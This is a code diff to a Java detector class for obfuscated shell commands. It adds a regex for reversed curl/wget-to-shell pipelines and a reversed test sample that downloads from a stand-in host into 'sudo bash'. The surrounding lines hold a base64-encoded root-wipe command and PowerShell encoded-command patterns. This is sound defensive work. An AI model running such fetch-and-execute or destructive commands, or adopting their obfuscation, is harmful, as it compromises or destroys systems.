@@ -46,6 +46,9 @@ final class DecodedCommandRules {
                       + PRIVILEGE
                       + SHELL)
               .finds("\\b(?:rev|tr [^\\n|]*)\\s*(?:<<<[^\\n|]*)?\\|\\s*" + PRIVILEGE + SHELL)
+              // Backwards, as somebody is told to read it: a shell that is fed from an address.
+              .finds(
+                  "\\b(?:hsab|hsz|hsad|hs|nohtyp) (?:odus )?\\|[^\\n\\x00]*//:s?ptth[^\\n\\x00]*\\b(?:lruc|tegw)\\b")
               .finds(
                   "(?i:\\b(?:powershell|pwsh)(?:\\.exe)?\\s[^\\n]*-e(?:c|nc|ncodedcommand|ncoded)?\\s+[\"'\\\\]*[A-Za-z0-9+/=]{16,})")
               .finds("(?i:\\b(?:iex|invoke-expression)\\b[^\\n]*\\bfrombase64string\\()")
@@ -60,6 +63,7 @@ final class DecodedCommandRules {
               .finds("\\bnew\\s+Function\\(\\s*(?:atob\\(|Buffer\\.from\\([^\\n]*base64)")
               .finds("\\bdecode_base64\\(?[^\\n]*\\|\\s*" + SHELL)
               .matches(
+                  "hsab odus | a/elpmaxe.h//:sptth Lsf- lruc",
                   "`echo cm0gLXJmIC8K | base64 -d | jq -r .a | sh`",
                   "$x=[Convert]::FromBase64String('aWQ='); iex $x",
                   "exec(''.join(map(chr, [105, 100])))",
